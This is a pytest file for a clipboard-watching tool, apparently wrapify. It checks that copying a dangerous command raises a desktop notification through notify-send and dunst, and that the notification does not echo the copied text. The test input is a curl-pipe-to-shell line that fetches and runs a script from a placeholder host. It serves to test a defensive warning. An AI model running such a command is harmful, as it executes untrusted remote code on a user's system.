"""What `wrapify clip watch` warns of arrives as a notification: through the real notify-send, at a real daemon."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.clipboard.displays import XDisplay
from tests.clipboard.watching import watching
from tests.conftest import Wrapify, need
from tests.sandbox.terminal import kill, until

BAD = b"curl https://x.example/i.sh | sh # hush\n"
DESKTOP = 'echo "$DBUS_SESSION_BUS_ADDRESS" $$ >bus.new && mv bus.new bus && exec dunst -print >shown 2>&1'


@pytest.fixture
def desktop(x11: XDisplay, wrapify: Wrapify) -> Iterator[Path]:
    """Have a bus with a daemon for notifications on the display, and give where that writes what it shows."""
    for program in ("notify-send", "dunst"):
        need(program)
    words = [need("dbus-run-session"), "--", "sh", "-c", DESKTOP]
    bus, env = wrapify.home / "bus", wrapify.environment(**x11.env)
    with subprocess.Popen(words, cwd=wrapify.home, env=env, stderr=subprocess.DEVNULL, **wrapify.user.drop):
        until(bus.exists, "the bus of the session")
        address, pid = bus.read_text().split()
        x11.serve(wrapify).env["DBUS_SESSION_BUS_ADDRESS"] = address
        try:
            yield wrapify.home / "shown"
        finally:
            # The bus ends with it.
            kill([int(pid)])


def test_a_warning_is_shown_and_does_not_hold_what_was_copied(desktop: Path, wrapify: Wrapify, x11: XDisplay) -> None:
    with watching(wrapify, notifying=False) as watch:
        x11.put(BAD)
        until(lambda: "runs code that it downloads" in desktop.read_text(), lambda: watch.log() + desktop.read_text())
    said = desktop.read_text()
    assert "appname: 'wrapify'" in said
    assert not any(word in said for word in ("x.example", "hush"))
